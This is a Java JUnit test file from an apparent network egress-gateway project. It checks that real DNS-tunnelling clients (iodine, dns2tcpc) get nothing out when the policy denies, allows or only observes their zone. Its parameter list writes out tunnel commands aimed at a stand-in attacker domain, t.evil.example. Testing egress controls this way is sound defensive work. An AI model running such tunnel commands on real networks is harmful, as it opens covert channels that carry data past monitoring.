package blackbox.node.egress;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import blackbox.gateway.Gateway;
import blackbox.gateway.GatewaySettings;
import blackbox.gateway.KernelGuest;
import blackbox.gateway.secret.Secrets;
import blackbox.gateway.tls.RunAuthority;
import blackbox.policy.Policy;
import blackbox.policy.text.PolicyReader;
import blackbox.recorder.guest.HostClock;
import blackbox.schemas.event.Event;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// The real clients of two tunnels through DNS, behind a gateway whose policy denies their zone, allows every name in
/// it, or only observes: nothing that they ask reaches anybody. Needs root, `/dev/net/tun` and the two programs;
/// elsewhere it is skipped and says so.
class TunnelClientsTest {
    private static final String DENIED = "version: 1\nrules: [{id: other, host: api.example}]\n";
    private static final String ALLOWED = "version: 1\nrules: [{id: zone, host: \"**.t.evil.example\"}]\n";
    private static final Map<String, String> POLICIES =
            Map.of("denied", DENIED, "allowed", ALLOWED, "observed", DENIED.replace(": 1", ": 1\nmode: observe"));

    private static final int CLIENT_S_MAX = 15;

    @TempDir
    Path folder;

    @ParameterizedTest
    @CsvSource({
        "denied, iodine -f -r -P secret 10.0.2.3 t.evil.example",
        "denied, iodine -f -r -P secret -T A 10.0.2.3 t.evil.example",
        "denied, iodine -f -r -P secret -T TXT 10.0.2.3 t.evil.example",
        "allowed, iodine -f -r -P secret 10.0.2.3 t.evil.example",
        "allowed, iodine -f -r -P secret -T A 10.0.2.3 t.evil.example",
        "allowed, iodine -f -r -P secret -T NULL 8.8.8.8 t.evil.example",
        "observed, iodine -f -r -P secret 10.0.2.3 t.evil.example",
        "denied, dns2tcpc -z t.evil.example 10.0.2.3",
        "denied, dns2tcpc -z t.evil.example -T KEY 8.8.8.8",
        "allowed, dns2tcpc -z t.evil.example 10.0.2.3",
        "observed, dns2tcpc -z t.evil.example 10.0.2.3",
    })
    void noQuestionOfATunnelLeaves(String policy, String client) throws Exception {
        String program = client.substring(0, client.indexOf(' '));
        String missing = KernelGuest.missing();
        assumeTrue(missing == null, () -> "no kernel can be put behind a gateway here: " + missing);
        assumeTrue(isInstalled(program), () -> program + " is not installed");
        List<Event> events = Collections.synchronizedList(new ArrayList<>());
        try (var outside = new Outside(Map.of(), new OutsideServer("", List.of()));
                var guest = KernelGuest.start(folder)) {
            String said = run(guest, outside, events, Objects.requireNonNull(POLICIES.get(policy)), client);
            System.out.println(policy + ", " + client + ": " + said.strip().replaceAll("\\s*\n\\s*", " / "));
            assertFalse(said.contains("Server tunnel IP"), said);
            assertEquals(List.of(), outside.came(), "what got out");
        }
        List<Event.EgressDecision> decisions = events.stream()
                .filter(Event.EgressDecision.class::isInstance)
                .map(Event.EgressDecision.class::cast)
                .toList();
        assertFalse(decisions.isEmpty(), "it asked nothing");
        assertTrue(
                decisions.stream().allMatch(each -> each.detail().contains("\"stage\":\"dns\"")),
                () -> "more than names: " + decisions);
        if (policy.equals("denied")) {
            assertTrue(
                    decisions.stream().allMatch(each -> each.verdict().equals("deny")), () -> "allowed: " + decisions);
        }
    }

    private String run(KernelGuest guest, Outside outside, List<Event> events, String text, String client)
            throws Exception {
        Policy policy = PolicyReader.read(text.getBytes(StandardCharsets.UTF_8));
        var budgets = new Budgets(policy, System::nanoTime);
        HostClock clock = new HostClock(InstantSource.system());
        Gateway.Outside inspecting = Gateway.Outside.inspecting(
                RunAuthority.create(Instant.now()), Outside.authority().trust(), Secrets.none());
        try (var plaintext = new PlaintextCapture(folder.resolve("plaintext"), 0, clock::nowNs);
                var gateway = Gateway.start(
                        guest.gatewayEnd(),
                        GatewaySettings.DEFAULT,
                        new PolicyAuthority(policy, Set::of, budgets),
                        new EgressLog(clock, events::add, plaintext, budgets),
                        new Gateway.Outside(outside, outside, inspecting.connections()))) {
            var words = new ArrayList<>(List.of("timeout", "--kill-after=1", String.valueOf(CLIENT_S_MAX)));
            words.addAll(List.of(client.split(" ")));
            Path output = folder.resolve("output");
            Process process = new ProcessBuilder(guest.inside(words.toArray(String[]::new)))
                    .redirectErrorStream(true)
                    .redirectOutput(output.toFile())
                    .start();
            assertTrue(process.waitFor(2L * CLIENT_S_MAX, TimeUnit.SECONDS), "the client does not end");
            return Files.readString(output);
        }
    }

    private static boolean isInstalled(String program) {
        return Stream.of("/usr/bin", "/usr/sbin").anyMatch(each -> Files.isExecutable(Path.of(each, program)));
    }
}
